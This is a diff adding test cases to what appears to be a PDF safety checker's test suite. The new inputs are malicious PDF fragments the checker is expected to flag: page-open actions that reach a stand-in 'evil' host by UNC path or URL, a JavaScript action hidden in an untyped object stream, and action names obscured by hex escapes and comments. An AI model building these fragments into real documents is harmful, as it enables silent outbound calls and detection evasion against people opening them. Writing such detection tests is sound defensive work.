@@ -13,6 +13,11 @@ const packedAs = (pairs: string, objects: string, level = 6): Buffer => {
   return Buffer.concat([Buffer.from(head), content, Buffer.from('\nendstream')])
 }
 
+const untyped = (pack: Buffer, first?: string): Buffer => {
+  const words = pack.toString('latin1').replace('/Type /ObjStm ', '')
+  return Buffer.from(first ? words.replace(/\/First \d+/, first) : words, 'latin1')
+}
+
 test.each([
   ['a script', 'a.pdf', pdf(quiet, '<< /S /JavaScript /JS (app.alert(1)) >>'), /script/],
   [
@@ -105,6 +110,37 @@ test.each([
     'a.pdf',
     pdf('<< /OpenAction 9 0 R >>'),
     /starts something/,
+  ],
+  [
+    'a file elsewhere when a page is opened',
+    'a.pdf',
+    pdf(quiet, '<< /Type /Page /AA << /O << /S /GoToR /F (\\\\evil\\x) /D [0 /Fit] >> >> >>'),
+    /starts something/,
+  ],
+  ['a link to a file elsewhere', 'a.pdf', pdf(quiet, '<< /S /GoToR /F (x) >>'), /starts something/],
+  [
+    'a page on the net when a page is opened',
+    'a.pdf',
+    pdf(quiet, '<< /Type /Page /AA << /O << /S /URI /URI (http://evil/t) >> >> >>'),
+    /starts something/,
+  ],
+  [
+    'the same said elsewhere and behind a remark',
+    'a.pdf',
+    pdf(quiet, '<< /Type /Page /A#41 % its actions\n7 0 R >>'),
+    /starts something/,
+  ],
+  [
+    'a script packed without saying so',
+    'a.pdf',
+    pdf(quiet, untyped(packed([[7, '<< /S /JavaScript /JS (x) >>']]))),
+    /script/,
+  ],
+  [
+    'objects packed behind a place that is said elsewhere',
+    'a.pdf',
+    pdf(quiet, untyped(packed([[7, '<< >>']]), '/First 12 0 R')),
+    /cannot be checked/,
   ],
   [
     'a form that sends',
